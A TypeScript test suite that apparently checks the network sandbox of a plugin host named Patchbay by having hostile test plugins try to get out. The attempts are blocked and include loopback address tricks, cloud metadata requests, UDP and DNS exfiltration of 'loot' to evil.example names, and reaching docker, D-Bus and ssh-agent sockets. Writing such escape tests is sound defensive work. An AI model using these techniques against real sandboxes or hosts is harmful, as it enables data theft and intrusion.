import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { type AddressInfo, connect, createServer as createTcp } from "node:net";
import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Attacker, HostileWorld, loot } from "./support.ts";

/** Ways out of the process other than the one that the person granted. */
let world: HostileWorld;
/** Declares no network. */
let mallory: Attacker;
/** Declares one host: `localhost` with the port of the test's server. */
let caller: Attacker;
/** Declares every host. */
let walker: Attacker;
let server: Server;
let port: number;
/** What anybody said to the test's server. */
const heard: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(`${request.url}`);
    if (request.url === "/away") response.writeHead(302, { location: world.app.url }).end();
    else response.end("hello");
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  port = (server.address() as AddressInfo).port;
  world = await HostileWorld.open();
  mallory = await world.plugin("mallory");
  caller = await world.plugin("caller", { network: [`localhost:${port}`] });
  walker = await world.plugin("walker", { network: true });
});
afterAll(async () => {
  server.close();
  await world[Symbol.asyncDispose]();
});

const get = async ({ arg }: { arg: string }) => (await fetch(arg)).text();
/** What `fetch` hides behind "fetch failed". */
const why = async ({ arg }: { arg: string }) =>
  fetch(arg).then(
    (answer) => answer.text(),
    (error: { cause?: { code?: string } }) => ({ stopped: error.cause?.code }),
  );

interface Question {
  id: string;
  pluginKey: string;
  question: { message: string };
}

/** Answers the question about a host that this plugin waits for. */
async function answer(key: string, message: string, choice: "once" | "no"): Promise<void> {
  for (;;) {
    const open = (await world.app.rest("GET", "/dialogs")) as Question[];
    const found = open.find(
      ({ pluginKey, question }) => pluginKey === key && question.message.includes(message),
    );
    if (found) return void (await world.app.rest("POST", `/dialogs/${found.id}/answer`, { answer: choice }));
    await new Promise((done) => setTimeout(done, 20));
  }
}

test("a plugin that declares no network reaches no server; with the host granted the same code does", async () => {
  const address = `http://localhost:${port}/plain`;
  expect((await mallory.run(why, address)).value).toEqual({ stopped: "EACCES" });
  expect(await mallory.seen("network", `localhost:${port}`)).toMatchObject({ seenBy: "wall" });
  expect(heard).not.toContain("/plain");
  expect((await caller.run(get, address)).value).toBe("hello");
});

test("a plugin that declares no network reaches no gateway of Patchbay, by any spelling of this computer", async () => {
  const { port: gateway } = new URL(world.app.url);
  for (const attacker of [mallory, walker]) {
    for (const host of [
      "127.0.0.1",
      "localhost",
      "[::1]",
      "[::ffff:127.0.0.1]",
      "0.0.0.0",
      "127.1",
      "2130706433",
    ]) {
      const got = await attacker.run(why, `http://${host}:${gateway}/api/agents`);
      expect([host, got.value]).toEqual([host, { stopped: "EACCES" }]);
    }
    expect(await attacker.seen("network", `127.0.0.1:${gateway}`)).toMatchObject({ seenBy: "wall" });
  }
});

test.each(["169.254.169.254:80", "[::ffff:169.254.169.254]:80", "metadata.google.internal:80"])(
  "a plugin without network does not reach the cloud's metadata at %s",
  async (place) => {
    expect((await mallory.run(why, `http://${place}/latest/meta-data/`)).value).toEqual({
      stopped: "EACCES",
    });
    const targets = async () => (await mallory.refusals()).map(({ target }) => target).join(" ");
    await expect.poll(targets).toMatch(/169\.254|a9fe|metadata/);
  },
);

test("a plugin that may reach every host asks the person before it reaches this computer or its network", async () => {
  const refused = walker.run(why, `http://127.0.0.1:${port}/inside`);
  await answer("walker", `127.0.0.1:${port} (this computer)`, "no");
  expect((await refused).value).toEqual({ stopped: "EACCES" });
  expect(heard).not.toContain("/inside");
  await walker.seen("network", `127.0.0.1:${port}`);
  const allowed = walker.run(why, `http://localhost:${port}/allowed`);
  await answer("walker", `localhost:${port} (this computer)`, "once");
  expect((await allowed).value).toBe("hello");
});

test("an undeclared host is a question; refused, nothing is sent", async () => {
  const got = caller.run(why, "http://evil.example/");
  await answer("caller", "evil.example", "no");
  expect((await got).value).toEqual({ stopped: "EACCES" });
  await caller.seen("network", "evil.example:80");
});

test("a declared server that sends a plugin on to the gateway does not get it there", async () => {
  expect((await caller.run(why, `http://localhost:${port}/away`)).value).toEqual({ stopped: "EACCES" });
  expect(heard).toContain("/away");
  await caller.seen("network", new URL(world.app.url).host);
});

test("a plugin that sends what it knows by UDP reaches nobody", async () => {
  const udp = createSocket("udp4");
  const packets: string[] = [];
  udp.on("message", (message) => packets.push(message.toString("latin1")));
  udp.bind(0, "0.0.0.0");
  await once(udp, "listening");
  const { port: at } = udp.address();
  const outside = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  const hosts = [
    "127.0.0.1",
    ...outside.filter(({ family }) => family === "IPv4").map(({ address }) => address),
  ];
  await walker.run(
    async ({ require, arg }) => {
      for (const host of arg.hosts) {
        const socket = require("node:dgram").createSocket("udp4");
        await new Promise((done) => socket.send(arg.loot, arg.at, host, done));
        socket.close();
      }
    },
    { hosts, at, loot },
  );
  await walker.seen("network", `127.0.0.1:${at} by UDP`);
  // Packets on the way would come before this one of the test's own.
  udp.send("last", at, "127.0.0.1");
  await once(udp, "message");
  expect(packets).toEqual(["last"]);
  udp.close();
});

test("a plugin that hides what it knows in names asks no name server, its own least of all", async () => {
  const names = createSocket("udp4");
  const asked: string[] = [];
  names.on("message", (message) => asked.push(message.toString("latin1")));
  names.bind(0, "127.0.0.1");
  await once(names, "listening");
  const got = await mallory.run(({ require, arg, each }) => {
    const dns = require("node:dns");
    const own = new dns.promises.Resolver({ timeout: 200, tries: 1 });
    own.setServers([`127.0.0.1:${arg}`]);
    return each({
      lookup: () => dns.promises.lookup("one.evil.example"),
      a: () => dns.promises.resolve4("two.evil.example"),
      any: () => dns.promises.resolveAny("three.evil.example"),
      txt: () => dns.promises.resolve("four.evil.example", "TXT"),
      own: () => own.resolve4("five.evil.example"),
      reverse: () => own.reverse("8.8.8.8"),
    });
  }, names.address().port);
  for (const [way, found] of Object.entries(got.value as object))
    expect([way, found]).toEqual([way, { stopped: expect.stringMatching(/EACCES|ENOTIMP/) }]);
  for (const name of ["one", "two", "three", "four", "five"]) {
    expect(await mallory.seen("network", `${name}.evil.example`)).toMatchObject({ seenBy: "wall" });
  }
  await mallory.seen("network", "the name server 127.0.0.1");
  names.send("last", names.address().port, "127.0.0.1");
  await once(names, "message");
  expect(asked).toEqual(["last"]);
  names.close();
});

test("a plugin that listens on every address cannot be reached from outside", async () => {
  const got = await walker.run(({ require }) => {
    const listening = require("node:net").createServer().listen(0, "0.0.0.0");
    return new Promise((done) => listening.once("listening", () => done(listening.address().port)));
  });
  const socket = connect({ port: Number(got.value), host: "127.0.0.1" });
  const [error] = await once(socket, "error");
  expect(error).toMatchObject({ code: "ECONNREFUSED" });
  await walker.seen("network", "anyone who connects to port 0");
});

test("a plugin does not reach sockets of docker, D-Bus, ssh-agent and X, nor abstract ones", async () => {
  const abstract = createTcp((socket) => socket.end(loot)).listen("\0patchbay-hostile-abstract");
  await once(abstract, "listening");
  const got = await walker.run(({ require, each }) => {
    const reach = (path: string) => () =>
      new Promise((done, failed) => {
        const socket = require("node:net").connect(path);
        socket.once("error", failed);
        socket.once("data", (text: Buffer) => done(String(text)));
      });
    return each({
      docker: reach("/var/run/docker.sock"),
      bus: reach("/run/dbus/system_bus_socket"),
      agent: reach("/tmp/ssh-XXXX/agent.1"),
      screen: reach("/tmp/.X11-unix/X0"),
      abstract: reach("\0patchbay-hostile-abstract"),
    });
  });
  abstract.close();
  const missing = { stopped: "ENOENT" };
  expect(got.value).toEqual({
    docker: missing,
    bus: missing,
    agent: missing,
    screen: missing,
    abstract: { stopped: "ECONNREFUSED" },
  });
  await walker.seen("network", "the socket /var/run/docker.sock");
  await walker.seen("network", "the socket @patchbay-hostile-abstract");
});

test("a plugin that undoes Patchbay's hooks has no network at all (nothing to see: it cannot ask)", async () => {
  const undone = await world.plugin("undone", { network: true });
  const got = await undone.run(({ require, arg, each }) => {
    const net = require("node:net");
    delete net.Socket.prototype.connect;
    const { Socket } = net;
    const original = Object.getPrototypeOf(Socket.prototype).connect ?? null;
    return each({ original: () => original, fetch: () => fetch(arg).then((answer) => answer.text()) });
  }, `http://localhost:${port}/undone`);
  expect(JSON.stringify(got.value)).not.toContain("hello");
  expect(heard).not.toContain("/undone");
});
